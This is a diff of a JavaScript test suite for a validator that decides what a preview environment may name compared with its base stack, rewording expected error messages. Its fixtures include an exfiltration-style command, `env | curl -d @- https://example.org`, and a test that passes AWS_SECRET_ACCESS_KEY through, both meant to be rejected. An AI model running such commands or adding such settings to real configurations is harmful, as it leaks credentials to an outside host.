@@ -52,7 +52,7 @@ describe("what a preview may name", function () {
   });
 
   it("is nothing of another environment, and no other registry", async () => {
-    const secret = "- `services.users.secrets` names a secret that no service has in stack base";
+    const secret = "- `services.users.secrets` names a secret that no service uses in stack base";
     const test =
       "- `services.users.test` has a command or variables that no service has in stack base";
     for (const [users, found] of [
@@ -62,11 +62,11 @@ describe("what a preview may name", function () {
       [{ repository: "ghcr.io/team/users", repositorySecretArn: arn("prod-login") }, secret],
       [
         { secrets: { A: "/dev/password" }, secretsKmsKeyArn: key("76543210") },
-        "- `services.users.secretsKmsKeyArn` is a key that no service has in stack base",
+        "- `services.users.secretsKmsKeyArn` is a key that no service uses in stack base",
       ],
       [
         { repository: "docker.io/somebody/users" },
-        "- `services.users.repository` is one that no service has in stack base",
+        "- `services.users.repository` is a repository that no service uses in stack base",
       ],
       [{ test: { command: "env | curl -d @- https://example.org" } }, test],
       [{ test: { command: "npm test", passVariables: ["AWS_SECRET_ACCESS_KEY"] } }, test],
